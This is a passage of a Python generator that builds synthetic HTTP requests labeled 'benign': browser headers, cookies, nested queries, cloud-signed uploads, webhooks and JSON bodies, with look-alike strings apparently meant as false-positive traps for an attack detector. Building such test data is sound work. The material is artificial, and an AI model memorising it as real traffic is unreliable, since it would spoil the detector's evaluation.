            parts.append("__cf_bm=%s-%d-1.0.1.1-%s" % (alnum(43), R.randint(1716000000, 1716500000), alnum(86)))
        elif p == "nextauth":
            parts.append("__Host-next-auth.csrf-token=%s%%7C%s" % (hexid(64), hexid(64)))
            parts.append("__Secure-next-auth.callback-url=https%3A%2F%2Fapp.example.com%2Fdashboard")
    fw = R.choice(["php", "rails", "django", "laravel", "express", "flask", "aspnet", "java"]) if kind == "mixed" else kind
    if fw == "php":
        parts.append("PHPSESSID=" + alnum(26).lower())
    elif fw == "rails":
        parts.append("_shop_session=%s--%s" % (pct(b64(R.randbytes(96))), hexid(40)))
    elif fw == "django":
        parts += ["csrftoken=" + alnum(32), "sessionid=" + alnum(32).lower()]
    elif fw == "laravel":
        blob = b64(jdump({"iv": b64(R.randbytes(16)), "value": b64(R.randbytes(48)), "mac": hexid(64), "tag": ""}))
        parts += ["XSRF-TOKEN=" + pct(blob), "laravel_session=" + pct(b64(jdump({"iv": b64(R.randbytes(16)), "value": b64(R.randbytes(64)), "mac": hexid(64), "tag": ""})))]
    elif fw == "express":
        parts.append("connect.sid=s%%3A%s.%s" % (alnum(32), pct(b64(R.randbytes(32)).rstrip("="))))
    elif fw == "flask":
        parts.append("session=%s.%s.%s" % (b64u(jdump({"_fresh": False, "csrf_token": hexid(40), "locale": "pt_BR"})), alnum(6), alnum(27)))
    elif fw == "aspnet":
        parts += [".AspNetCore.Antiforgery.%s=CfDJ8%s" % (alnum(11), alnum(150)), "ARRAffinity=" + hexid(64),
                  ".AspNetCore.Culture=c%3Dde-AT%7Cuic%3Dde-AT"]
    elif fw == "java":
        parts.append("JSESSIONID=%s.node%d" % (hexid(32).upper(), R.randint(1, 4)))
    R.shuffle(parts)
    return "; ".join(parts)


def browser(ref=True, cookies=True, fetch="navigate", lang=None, extra_trace=True):
    ua = R.choice(UA_BROWSERS)
    hs = [["User-Agent", ua]]
    if "Chrome" in ua:
        ch, plat = R.choice(SEC_CH)
        hs += [["sec-ch-ua", ch], ["sec-ch-ua-mobile", "?1" if "Mobile" in ua else "?0"], ["sec-ch-ua-platform", plat]]
        if R.random() < 0.3:
            hs += [["sec-ch-ua-full-version-list", '"Chromium";v="124.0.6367.119", "Google Chrome";v="124.0.6367.119", "Not-A.Brand";v="99.0.0.0"'],
                   ["sec-ch-ua-arch", '"x86"'], ["sec-ch-ua-model", '""'], ["sec-ch-prefers-color-scheme", "dark"]]
    if fetch == "navigate":
        hs += [["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"],
               ["Sec-Fetch-Site", R.choice(["none", "same-origin", "cross-site"])], ["Sec-Fetch-Mode", "navigate"],
               ["Sec-Fetch-User", "?1"], ["Sec-Fetch-Dest", "document"], ["Upgrade-Insecure-Requests", "1"]]
    else:
        hs += [["Accept", "application/json, text/plain, */*"], ["Sec-Fetch-Site", "same-origin"],
               ["Sec-Fetch-Mode", "cors"], ["Sec-Fetch-Dest", "empty"]]
    hs += [["Accept-Language", lang or R.choice(ACCEPT_LANGS)], ["Accept-Encoding", "gzip, deflate, br, zstd"]]
    if ref:
        hs.append(["Referer", R.choice(REFERERS)])
    if cookies:
        hs.append(["Cookie", cookie_jar()])
    if R.random() < 0.2:
        hs.append(["DNT", "1"])
    if R.random() < 0.3:
        hs.append(["Priority", R.choice(["u=0, i", "u=1", "u=4, i"])])
    if extra_trace and R.random() < 0.5:
        hs += trace_headers()
    return hs


def api_client(token=True):
    hs = [["User-Agent", R.choice(UA_TOOLS)], ["Accept", "application/json"]]
    if token:
        hs.append(["Authorization", "Bearer " + jwt_like({
            "iss": "https://auth.example.com/", "sub": "auth0|" + hexid(24), "aud": ["https://api.example.com", "https://auth.example.com/userinfo"],
            "iat": 1716200000, "exp": 1716286400, "azp": alnum(32), "scope": "openid profile email read:orders write:orders",
            "https://example.com/roles": ["support", "billing-viewer"], "email": "anna+test@example.com"},
            header={"alg": "RS256", "typ": "JWT", "kid": alnum(22)})])
    hs += trace_headers()
    return hs


TEXTS = [
    "Die Lieferung kam zwei Tage zu spät, aber der Kundenservice war sehr freundlich. Würde wieder bestellen!",
    "Bonjour, je voudrais savoir si la taille 38 est encore disponible en bleu marine ? Merci d'avance.",
    "¿Podrían enviarme la factura a nombre de la empresa? El pedido es el n.º 48213.",
    "Produto excelente, chegou bem embalado. Só achei a cor um pouco diferente da foto.",
    "Ottimo rapporto qualità/prezzo, ma le istruzioni di montaggio sono poco chiare.",
    "Zamówienie dotarło w idealnym stanie. Polecam ten sklep wszystkim znajomym!",
    "Ürün açıklamasında belirtilen ölçüler yanlış, iade etmek istiyorum.",
    "Спасибо за быструю доставку! Подскажите, когда снова появится в наличии чёрный цвет?",
    "Дякую, все працює. Чи можна змінити адресу доставки для наступного замовлення?",
    "注文した商品がまだ届いていません。追跡番号を教えていただけますか？",
    "请问这款耳机支持降噪功能吗？我想select一个适合通勤的型号。",
    "배송이 정말 빨랐어요. 다음에도 이용할게요!",
    "أود تغيير موعد التوصيل إلى يوم الخميس إن أمكن، شكراً لكم.",
    "אפשר לקבל חשבונית מס על ההזמנה? תודה רבה!",
    "कृपया मेरा ऑर्डर रद्द कर दें, मैंने गलत साइज़ चुन लिया था।",
    "Tôi muốn đổi sang màu xanh lá, có được không ạ?",
    "Kan ni skicka en ny länk för att återställa lösenordet? Den gamla har gått ut.",
    "Η παραγγελία μου έφτασε χωρίς το καλώδιο φόρτισης.",
    "Please select the delivery slot and drop us a note if nobody is home - we'll leave it with the neighbour.",
    "Our team meets at Union Station, then we'll walk to the office. Or we could take the 10 o'clock bus.",
    "I'm O'Brien from accounts; the 'Update' button on the billing page doesn't do anything for me.",
    "Loved it!!! 😍 Five stars ⭐⭐⭐⭐⭐ - would buy again & again.",
    "Can't log in since yesterday, it says \"session expired\" every time. Using Firefox on Ubuntu.",
    "Where can I find the terms & conditions for the 30% off coupon (SPRING-30)?",
    "Meeting moved to 14:30 CET -> please update the calendar invite; agenda: Q2 numbers, hiring, offsite.",
]

NAMES = [("Zoë", "Müller"), ("Seán", "O'Connor"), ("José María", "Fernández-López"), ("Aiko", "Tanaka"),
         ("Chloé", "D'Angelo"), ("Nguyễn", "Thị Lan"), ("Ólafur", "Jóhannsson"), ("Małgorzata", "Wiśniewska"),
         ("Mohammed", "Al-Farsi"), ("Ивана", "Петровић"), ("김", "민준"), ("Siobhán", "McCarthy"),
         ("Jean-Luc", "Lefèvre"), ("Ana", "da Silva"), ("Rüdiger", "van der Berg"), ("Priya", "Raman")]

SEARCHES = ["wireless headphones", "Kaffeemühle elektrisch", "robe d'été", "zapatillas running mujer", "日本語 入門",
            "手机壳 透明", "노트북 가방", "smartphone 5g 128gb", "or-tools tutorial", "union jack flag", "select comfort mattress",
            "drop earrings gold", "o'reilly books", "c++ primer", "100% cotton t-shirt", "rock & roll vinyl",
            "\"exact phrase\" search", "size 42/43", "café au lait", "Ελληνικά βιβλία", "книги фэнтези"]

CITIES = ["Berlin", "São Paulo", "Zürich", "Kraków", "İstanbul", "Montréal", "Łódź", "Reykjavík", "Düsseldorf", "Москва", "東京"]


def pick(seq):
    return R.choice(seq)


def ts_iso():
    return "2024-%02d-%02dT%02d:%02d:%02d.%03dZ" % (R.randint(1, 5), R.randint(1, 28), R.randint(0, 23),
                                                     R.randint(0, 59), R.randint(0, 59), R.randint(0, 999))


def http_date():
    return "%s, %02d May 2024 %02d:%02d:%02d GMT" % (pick(["Mon", "Tue", "Wed", "Thu", "Fri"]), R.randint(1, 28),
                                                      R.randint(0, 23), R.randint(0, 59), R.randint(0, 59))


# --- benign templates: browser pages and nested query names --------------------

def b_nested_query(c):
    q = pick([
        "filter[status][]=open&filter[status][]=pending&sort=-created_at&page[number]=%d&page[size]=25" % R.randint(1, 9),
        "include=author,comments.author&fields[articles]=title,body,author&fields[people]=name&sort=-published_at",
        "q[title_cont]=%s&q[s]=created_at+desc&page=%d" % (qp(pick(SEARCHES)), R.randint(1, 5)),
        "where[price][gte]=10&where[price][lte]=250&where[brand][in][]=acme&where[brand][in][]=globex&limit=48",
        "filters[0][field]=country&filters[0][op]=eq&filters[0][value]=DE&filters[1][field]=plan&filters[1][value]=pro",
        "user.address.city=%s&user.address.zip=80331&opts.deep=true" % qp(pick(CITIES)),
        "tags[]=summer&tags[]=sale&tags[]=%s&color=navy&size[]=M&size[]=L" % qp("été"),
        "attributes%5Bcolor%5D=red&attributes%5Bsize%5D=XL&_=" + str(R.randint(1716000000000, 1716500000000)),
        "options[notify][email]=1&options[notify][sms]=0&options[locale]=pt-BR",
        "sort=-updated_at,+name&fields=id,name,owner.email&expand=owner&cursor=" + b64u(jdump({"id": R.randint(1, 99999), "ts": ts_iso()})),
    ])
    path = pick(["/issues", "/api/articles", "/admin/orders", "/products", "/api/v2/accounts", "/shop/search", "/settings"])
    c.add("nested-query-names", "benign", "GET", path + "?" + q.replace(" ", "+"), browser(fetch=pick(["navigate", "cors"])),
          host=pick(HOSTS))


def b_search_tracking(c):
    q = pick(SEARCHES)
    params = "q=%s&utm_source=%s&utm_medium=cpc&utm_campaign=%s&utm_content=%s&gclid=%s" % (
        qp(q), pick(["google", "bing", "newsletter", "instagram"]), pick(["brand_de", "summer-2024", "retarget_q2"]),
        pick(["banner_728x90", "text-ad-3"]), alnum(40))
    if R.random() < 0.4:
        params += "&fbclid=IwAR" + alnum(40)
    if R.random() < 0.3:
        params += "&_gl=1*%s*_ga*%s*_ga_%s*%s" % (alnum(6).lower(), b64(str(R.randint(10**9, 10**10))).rstrip("="), alnum(10).upper(), b64(alnum(30)).rstrip("="))
    c.add("search-utm", "benign", "GET", "/search?" + params, browser(), host="shop.example.com")


def b_paths(c):
    p = pick([
        "/api/v1/users/%s/preferences" % pct("jane.o'neil+news@example.com"),
        "/api/v1/users/%s" % pct("zoë.müller@example.de"),
        "/reports/2024-05-%02d/daily.csv" % R.randint(1, 28),
        "/maps;lat=52.5200;lon=13.4050;zoom=12/tiles/12/2200/1343.png",
        "/catalog/shoes;color=red;size=42/detail",
        "/shop;jsessionid=%s/cart" % hexid(32).upper(),
        "/wiki/M%C3%BCnchen_Hauptbahnhof",
        "/tags/%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "/u/%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82/posts",
        "/api/v4/projects/group%2Fsubgroup%2Fweb-app/repository/files/src%2Fmain%2Fapp.py/raw?ref=main",
        "/api/v4/projects/platform%2Finfra/repository/tree?path=charts%2Fapi&ref=release%2F2024.05",
        "/index.php/apps/files/?dir=/Documents/Rechnungen%%202024&fileid=%d" % R.randint(1000, 99999),
        "/index.php/rest/V1/carts/mine/items",
        "/index.php/products/view/%d" % R.randint(1, 9999),
        "/calendar/2024/05/%02d;view=week" % R.randint(1, 28),
        "/files/Quarterly%20Report%20Q1%20(final)%20v2.xlsx",
        "/@jdoe/statuses/%d" % R.randint(10**17, 10**18),
        "/api/orders/ORD-2024-%06d/items/%s" % (R.randint(1, 999999), fuuid()),
        "/v1/accounts/acct_%s/persons/person_%s" % (alnum(16), alnum(24)),
        "/repos/example-org/web/compare/main...feature%2Fcheckout-v2",
        "/archive/2024/05/%02d/%s" % (R.randint(1, 28), "caf%C3%A9-culture-in-lisbon"),
        "/books/isbn:978-3-16-148410-0",
        "/people/~/connections;start=0;count=50",
    ])
    c.add("path-segments", "benign", "GET", p, browser(), host=pick(HOSTS))


def b_conditional_range(c):
    kind = R.randint(0, 3)
    if kind == 0:
        hs = browser(cookies=False, fetch="cors") + [["If-None-Match", 'W/"%x-%s", W/"%x-%s"' % (R.randint(100, 99999), b64(alnum(12)).rstrip("="), R.randint(100, 99999), hexid(16))],
                                                     ["If-Modified-Since", http_date()]]
        c.add("conditional-etag", "benign", "GET", "/api/v1/catalog?locale=de-DE", hs, host="api.example.com")
    elif kind == 1:
        hs = browser(cookies=False, ref=True) + [["Range", "bytes=0-1023,4096-8191,%d-%d" % (R.randint(10000, 20000), R.randint(30000, 40000))],
                                                 ["If-Range", '"%s"' % hexid(32)]]
        c.add("multi-range", "benign", "GET", "/media/manual-v%d.pdf" % R.randint(1, 9), hs, host="cdn.example.net")
    elif kind == 2:
        hs = [["User-Agent", "AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4_1 like Mac OS X; en_us)"],
              ["Accept", "*/*"], ["Range", pick(["bytes=0-1", "bytes=%d-" % R.randint(10**6, 10**8), "bytes=-65536"])],
              ["X-Playback-Session-Id", fuuid().upper()]]
        c.add("media-range", "benign", "GET", "/video/hls/%s/1080p/segment_%05d.ts" % (fuuid(), R.randint(1, 500)), hs, host="media.example.com")
    else:
        body = jdump({"title": "Team offsite – Lisbon", "description": pick(TEXTS), "version": R.randint(2, 40)})
        hs = api_client() + [["If-Match", '"%s"' % hexid(40)], ["Prefer", "return=representation"]]
        c.add("conditional-put", "benign", "PUT", "/api/v2/events/%d" % R.randint(1000, 9999), hs, body, "application/json", host="api.example.com")


def b_cors_preflight(c):
    hs = [["User-Agent", pick(UA_BROWSERS)], ["Accept", "*/*"], ["Origin", pick(["https://app.example.com", "https://admin.example.net", "http://localhost:3000"])],
          ["Access-Control-Request-Method", pick(["POST", "PATCH", "DELETE", "PUT"])],
          ["Access-Control-Request-Headers", pick(["authorization,content-type,x-request-id,traceparent,tracestate,baggage",
                                                   "content-type,x-csrf-token,x-requested-with,sentry-trace",
                                                   "x-amz-date,x-amz-security-token,x-amz-content-sha256,authorization,x-amz-user-agent"])],
          ["Sec-Fetch-Mode", "cors"], ["Sec-Fetch-Site", "cross-site"], ["Sec-Fetch-Dest", "empty"]]
    c.add("cors-preflight", "benign", "OPTIONS", "/api/v1/%s" % pick(["orders", "uploads/sign", "graphql", "me/avatar"]), hs, host="api.example.com")



# --- benign templates: cloud signatures and webhooks ----------------------------

def sigv4(service, region="eu-central-1", date="20240520"):
    return ("AWS4-HMAC-SHA256 Credential=AKIA%s/%s/%s/%s/aws4_request, "
            "SignedHeaders=content-type;host;x-amz-content-sha256;x-amz-date;x-amz-security-token, Signature=%s"
            % (alnum(16).upper(), date, region, service, hexid(64)))


def b_aws(c):
    kind = R.randint(0, 3)
    amzdate = "20240520T%02d%02d%02dZ" % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59))
    if kind == 0:
        body = "Lieferschein Nr. %d\nKunde: %s %s\n" % (R.randint(1000, 9999), *pick(NAMES))
        hs = [["User-Agent", "aws-sdk-java/2.25.40 Linux/5.10 OpenJDK_64-Bit_Server_VM/17.0.10 Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy"],
              ["Authorization", sigv4("s3")], ["X-Amz-Date", amzdate], ["X-Amz-Content-Sha256", hashlib.sha256(body.encode()).hexdigest()],
              ["X-Amz-Security-Token", b64(R.randbytes(180))], ["x-amz-meta-original-filename", pct("Lieferschein_März.txt")],
              ["x-amz-meta-uploaded-by", "user:" + fuuid()], ["x-amz-server-side-encryption", "aws:kms"],
              ["x-amz-checksum-crc32", b64(R.randbytes(4))], ["amz-sdk-invocation-id", fuuid()], ["amz-sdk-request", "attempt=1; max=4"]]
        c.add("aws-s3-put-sigv4", "benign", "PUT", "/uploads/2024/05/%s.txt" % fuuid(), hs, body, "text/plain; charset=utf-8",
              host="docs-bucket.s3.eu-central-1.example.com")
    elif kind == 1:
        q = ("X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%s%%2F20240520%%2Fus-east-1%%2Fs3%%2Faws4_request"
             "&X-Amz-Date=%s&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Security-Token=%s&X-Amz-Signature=%s"
             "&response-content-disposition=%s"
             % (alnum(16).upper(), amzdate, pct(b64(R.randbytes(120))), hexid(64),
                pct("attachment; filename*=UTF-8''%s" % pct("Präsentation Q2.pdf"))))
        c.add("aws-s3-presigned-get", "benign", "GET", "/exports/%s/report.pdf?%s" % (fuuid(), q), browser(cookies=False),
              host="exports.s3.example.com")
    elif kind == 2:
        body = jdump({"TableName": "orders", "KeyConditionExpression": "#pk = :pk AND begins_with(#sk, :prefix)",
                      "ExpressionAttributeNames": {"#pk": "PK", "#sk": "SK"},
                      "ExpressionAttributeValues": {":pk": {"S": "CUSTOMER#%d" % R.randint(1, 99999)}, ":prefix": {"S": "ORDER#2024-05"}},
                      "ScanIndexForward": False, "Limit": 25})
        hs = [["User-Agent", "aws-sdk-js/3.540.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.12.0 api/dynamodb#3.540.0"],
              ["X-Amz-Target", "DynamoDB_20120810.Query"], ["X-Amz-Date", amzdate], ["Authorization", sigv4("dynamodb")],
              ["amz-sdk-invocation-id", fuuid()], ["X-Amz-Security-Token", b64(R.randbytes(150))]]
        c.add("aws-dynamodb-query", "benign", "POST", "/", hs, body, "application/x-amz-json-1.0", host="dynamodb.eu-central-1.example.com")
    else:
        body = form([("Action", "SendMessage"), ("Version", "2012-11-05"), ("MessageBody", jdump({"orderId": R.randint(1, 10**6), "event": "shipped", "carrier": "DHL"})),
                     ("MessageAttribute.1.Name", "trace.id"), ("MessageAttribute.1.Value.DataType", "String"),
                     ("MessageAttribute.1.Value.StringValue", hexid(32))])
        hs = [["User-Agent", "Boto3/1.34.100 md/Botocore#1.34.100 ua/2.0 os/linux#5.10 md/arch#x86_64 lang/python#3.12.3 cfg/retry-mode#legacy Botocore/1.34.100"],
              ["X-Amz-Date", amzdate], ["Authorization", sigv4("sqs")]]
        c.add("aws-sqs-query-api", "benign", "POST", "/123456789012/orders-events", hs, body, "application/x-www-form-urlencoded; charset=utf-8",
              host="sqs.eu-central-1.example.com")


def b_azure_gcs(c):
    if R.random() < 0.5:
        sas = ("sv=2022-11-02&ss=b&srt=co&sp=rwdlaciytfx&se=2024-06-0%dT18:00:00Z&st=2024-05-20T10:00:00Z&spr=https&sig=%s"
               % (R.randint(1, 9), pct(b64(R.randbytes(32)))))
        body = jdump({"invoice": "RE-%d" % R.randint(10000, 99999), "amount": {"value": "%d.%02d" % (R.randint(1, 9999), R.randint(0, 99)), "currency": "EUR"}})
        hs = [["User-Agent", "azsdk-python-storage-blob/12.19.1 Python/3.11.9 (Linux-5.15.0-1061-azure-x86_64-with-glibc2.35)"],
              ["x-ms-version", "2023-11-03"], ["x-ms-date", http_date()], ["x-ms-blob-type", "BlockBlob"],
              ["x-ms-client-request-id", fuuid()], ["x-ms-meta-source", "billing-export"], ["x-ms-blob-content-type", "application/json"]]
        c.add("azure-blob-sas-put", "benign", "PUT", "/invoices/2024/05/%s.json?%s" % (fuuid(), sas), hs, body, "application/json",
              host="acmestore.blob.example.net")
    else:
        q = ("X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=uploader%%40example-proj.iam.example.com%%2F20240520%%2Fauto%%2Fstorage%%2Fgoog4_request"
             "&X-Goog-Date=20240520T1015%02dZ&X-Goog-Expires=900&X-Goog-SignedHeaders=content-type%%3Bhost&X-Goog-Signature=%s"
             % (R.randint(0, 59), hexid(512)))
        body = "\x89PNG\r\n\x1a\n" + alnum(64)
        hs = [["User-Agent", pick(UA_BROWSERS)], ["Origin", "https://app.example.com"]]
        c.add("gcs-signed-url-put", "benign", "PUT", "/media-uploads/u/%s/avatar.png?%s" % (fuuid(), q), hs, body, "image/png",
              host="storage.example.com")


def b_webhooks(c):
    k = R.randint(0, 4)
    t = R.randint(1716000000, 1716500000)
    if k == 0:
        body = jdump({"id": "evt_" + alnum(24), "object": "event", "api_version": "2024-04-10", "created": t, "type": "payment_intent.succeeded",
                      "data": {"object": {"id": "pi_" + alnum(24), "amount": R.randint(100, 99999), "currency": pick(["eur", "usd", "brl", "jpy"]),
                                          "metadata": {"order_id": str(R.randint(1, 10**6)), "customer.note": pick(TEXTS)},
                                          "receipt_email": "kunde+%d@example.de" % R.randint(1, 999)}},
                      "livemode": False, "pending_webhooks": 1, "request": {"id": "req_" + alnum(14), "idempotency_key": fuuid()}})
        hs = [["User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"], ["Stripe-Signature", "t=%d,v1=%s,v0=%s" % (t, hexid(64), hexid(64))]]
        c.add("stripe-webhook", "benign", "POST", "/webhooks/stripe", hs, body, "application/json; charset=utf-8", host="billing.example.com")
    elif k == 1:
        body = jdump({"ref": "refs/heads/main", "before": hexid(40), "after": hexid(40),
                      "repository": {"id": R.randint(10**6, 10**9), "full_name": "example-org/web", "private": True},
                      "pusher": {"name": "jdoe", "email": "jdoe@example.com"},
                      "commits": [{"id": hexid(40), "message": pick(["Fix typo in README", "Übersetzung aktualisiert (de)", "Bump axios from 1.6.7 to 1.6.8",
                                                                     "Merge pull request #%d from example-org/feature/checkout" % R.randint(1, 999),
                                                                     "i18n: 新增繁體中文翻譯", "Refactor: drop unused union type"]),
                                   "timestamp": "2024-05-20T10:%02d:00+02:00" % R.randint(0, 59), "added": [], "removed": [], "modified": ["src/app.ts"]}]})
        hs = [["User-Agent", "GitHub-Hookshot/%s" % hexid(7)], ["X-GitHub-Event", "push"], ["X-GitHub-Delivery", fuuid()],
              ["X-GitHub-Hook-ID", str(R.randint(10**8, 10**9))], ["X-GitHub-Hook-Installation-Target-Type", "repository"],
              ["X-Hub-Signature", "sha1=" + hexid(40)], ["X-Hub-Signature-256", "sha256=" + hexid(64)]]
        c.add("github-webhook", "benign", "POST", "/hooks/github", hs, body, "application/json", host="ci.example.org")
    elif k == 2:
        body = form([("token", alnum(24)), ("team_id", "T0" + alnum(8).upper()), ("team_domain", "example"), ("channel_id", "C0" + alnum(8).upper()),
                     ("channel_name", "ops-alerts"), ("user_id", "U0" + alnum(8).upper()), ("user_name", "ana.silva"),
                     ("command", "/standup"), ("text", pick(["yesterday: fixed flaky tests; today: review PR #812", "Heute: Release 2024.05 vorbereiten",
                                                               "blocked by VPN again :sweat_smile:"])),
                     ("api_app_id", "A0" + alnum(8).upper()), ("response_url", "https://hooks.example.com/commands/T0/%d/%s" % (R.randint(10**12, 10**13), alnum(24))),
                     ("trigger_id", "%d.%d.%s" % (R.randint(10**12, 10**13), R.randint(10**12, 10**13), hexid(32)))])
        hs = [["User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"], ["X-Slack-Signature", "v0=" + hexid(64)],
              ["X-Slack-Request-Timestamp", str(t)]]
        c.add("slack-slash-command", "benign", "POST", "/slack/commands", hs, body, "application/x-www-form-urlencoded", host="bots.example.net")
    elif k == 3:
        fn, ln = pick(NAMES)
        body = jdump({"id": R.randint(10**12, 10**13), "email": "%s@example.org" % alnum(8).lower(), "created_at": "2024-05-20T12:00:00+09:00",
                      "currency": "JPY", "total_price": str(R.randint(1000, 90000)), "note": pick(TEXTS),
                      "note_attributes": [{"name": "gift-wrap", "value": "yes"}, {"name": "delivery:time_window", "value": "18-21"}],
                      "customer": {"first_name": fn, "last_name": ln, "tags": "vip, newsletter"},
                      "shipping_address": {"city": pick(CITIES), "address1": "Hauptstraße 5/2", "province_code": "BY"}})
        hs = [["User-Agent", "Shopify-Captain-Hook"], ["X-Shopify-Topic", "orders/create"], ["X-Shopify-Hmac-Sha256", b64(R.randbytes(32))],
              ["X-Shopify-Shop-Domain", "example-store.myshop.example.com"], ["X-Shopify-Webhook-Id", fuuid()],
              ["X-Shopify-Triggered-At", ts_iso()], ["X-Shopify-API-Version", "2024-04"]]
        c.add("shopify-webhook", "benign", "POST", "/webhooks/shopify/orders-create", hs, body, "application/json", host="erp.example.com")
    else:
        body = form([("ToCountry", "DE"), ("SmsMessageSid", "SM" + hexid(32)), ("NumMedia", "0"), ("From", "+4915112345678"),
                     ("Body", pick(TEXTS)), ("To", "+4930901820"), ("AccountSid", "AC" + hexid(32)), ("ApiVersion", "2010-04-01")])
        hs = [["User-Agent", "TwilioProxy/1.1"], ["X-Twilio-Signature", b64(R.randbytes(20))], ["I-Twilio-Idempotency-Token", fuuid()]]
        c.add("twilio-sms-webhook", "benign", "POST", "/sms/inbound", hs, body, "application/x-www-form-urlencoded", host="support.example.net")



# --- benign templates: odd JSON keys, XML namespaces, multipart --------------------

def b_json_keys(c):
    k = R.randint(0, 6)
    if k == 0:
        body = jdump({"@context": "https://schema.org", "@type": "Event", "@id": "https://events.example.org/e/%d" % R.randint(1, 9999),
                      "name": pick(["Sommerfest 2024", "Fête de la musique", "東京 Meetup #12"]), "startDate": ts_iso(),
                      "location": {"@type": "Place", "name": pick(CITIES), "address": {"@type": "PostalAddress", "addressCountry": "DE"}},
                      "offers": {"@type": "Offer", "price": "0", "priceCurrency": "EUR"}})
        c.add("jsonld-event", "benign", "POST", "/api/events", api_client(), body, "application/ld+json", host="events.example.org")
    elif k == 1:
        body = jdump({"@odata.type": "#Microsoft.Dynamics.CRM.contact", "firstname": pick(NAMES)[0], "lastname": pick(NAMES)[1],
                      "parentcustomerid_account@odata.bind": "/accounts(%s)" % fuuid(), "emailaddress1": "kontakt@example.de",
                      "preferredcontactmethodcode": 2, "description": pick(TEXTS)})
        hs = api_client() + [["OData-MaxVersion", "4.0"], ["OData-Version", "4.0"], ["Prefer", 'return=representation,odata.include-annotations="*"']]
        c.add("odata-create", "benign", "POST", "/api/data/v9.2/contacts", hs, body, "application/json; charset=utf-8", host="crm.example.com")
    elif k == 2:
        app = pick(["checkout", "search-api", "web", "worker"])
        body = jdump({"metadata": {"labels": {"app.kubernetes.io/name": app, "app.kubernetes.io/version": "2024.05.%d" % R.randint(1, 30),
                                              "app.kubernetes.io/managed-by": "Helm", "topology.kubernetes.io/zone": "eu-central-1b"},
                                   "annotations": {"deployment.kubernetes.io/revision": str(R.randint(1, 80)),
                                                   "prometheus.io/scrape": "true", "prometheus.io/port": "9102",
                                                   "example.com/owner": "team-payments@example.com"}},
                      "spec": {"replicas": R.randint(2, 12)}})
        hs = [["User-Agent", "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225"], ["Authorization", "Bearer " + jwt_like(
            {"iss": "kubernetes/serviceaccount", "kubernetes.io/serviceaccount/namespace": "prod", "sub": "system:serviceaccount:prod:deployer"},
            header={"alg": "RS256", "kid": alnum(43)})], ["Accept", "application/json"]]
        c.add("k8s-merge-patch", "benign", "PATCH", "/apis/apps/v1/namespaces/prod/deployments/%s" % app, hs, body,
              "application/merge-patch+json", host="k8s-api.example.com")
    elif k == 3:
        lang = pick(["de", "fr", "ja", "pt-BR", "ar"])
        vals = {"de": ["Jetzt bezahlen", "Warenkorb ({count})", "Bitte gib eine gültige E-Mail-Adresse ein."],
                "fr": ["Payer maintenant", "Panier ({count})", "Veuillez saisir une adresse e-mail valide."],
                "ja": ["今すぐ支払う", "カート（{count}）", "有効なメールアドレスを入力してください。"],
                "pt-BR": ["Pagar agora", "Carrinho ({count})", "Informe um e-mail válido."],
                "ar": ["ادفع الآن", "سلة التسوق ({count})", "يرجى إدخال بريد إلكتروني صالح."]}[lang]
        body = jdump({"checkout.button.pay_now": vals[0], "header:cart.count": vals[1], "errors/validation/email": vals[2],
                      "common:greeting@formal": "—", "$schema": "https://i18n.example.com/schema/v2.json"})
        c.add("i18n-keys", "benign", "PUT", "/api/v1/projects/web/locales/%s" % lang, api_client(), body, "application/json", host="translate.example.com")
    elif k == 4:
        body = jdump({"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"],
                      "userName": "bjensen@example.com", "name": {"givenName": "Barbara", "familyName": "Jensen"},
                      "emails": [{"value": "bjensen@example.com", "type": "work", "primary": True}],
                      "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"employeeNumber": str(R.randint(1000, 9999)),
                                                                                        "department": "Tour Operations",
                                                                                        "manager": {"value": fuuid()}}})
        hs = [["User-Agent", "Okta SCIM Client 1.0.0"], ["Authorization", "Bearer " + alnum(40)], ["Accept", "application/scim+json"]]
        c.add("scim-create-user", "benign", "POST", "/scim/v2/Users", hs, body, "application/scim+json; charset=utf-8", host="hr.example.org")
    elif k == 5:
        body = jdump({"type": "track", "event": "Order Completed", "userId": "usr_" + alnum(12), "anonymousId": fuuid(),
                      "properties": {"order_id": str(R.randint(1, 10**6)), "revenue": round(R.random() * 300, 2), "$currency": "EUR",
                                     "products[0].sku": "SKU-%d" % R.randint(1, 999), "coupon": "SPRING-30"},
                      "context": {"library": {"name": "analytics.js", "version": "next-1.64.0"}, "locale": "de-DE",
                                  "page": {"path": "/checkout/thank-you", "referrer": pick(REFERERS), "search": "?utm_source=newsletter"},
                                  "userAgentData": {"brands": [{"brand": "Chromium", "version": "124"}], "mobile": False, "platform": "Windows"}},
                      "messageId": "ajs-next-" + hexid(32), "sentAt": ts_iso(), "writeKey": alnum(32)})
        c.add("segment-track", "benign", "POST", "/v1/t", [["User-Agent", pick(UA_BROWSERS)], ["Origin", "https://shop.example.com"]],
              body, "text/plain", host="cdp.example.net")
    else:
        body = jdump({"mappings": {"properties": {"user.name": {"type": "keyword"}, "geo:point": {"type": "geo_point"},
                                                   "http.request.headers.user-agent": {"type": "text"}}},
                      "settings": {"index.number_of_shards": 3, "index.refresh_interval": "30s"}})
        hs = [["User-Agent", "elastic-transport-js/8.5.0 (linux 5.15.0-x64; Node.js v20.12.0)"],
              ["Authorization", "ApiKey " + b64("%s:%s" % (alnum(20), alnum(22)))], ["X-Elastic-Product-Origin", "kibana"]]
        c.add("es-index-mapping", "benign", "PUT", "/logs-web-2024.05.%02d" % R.randint(1, 28), hs, body, "application/json", host="search.example.org")


def b_xml(c):
    k = R.randint(0, 4)
    if k == 0:
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
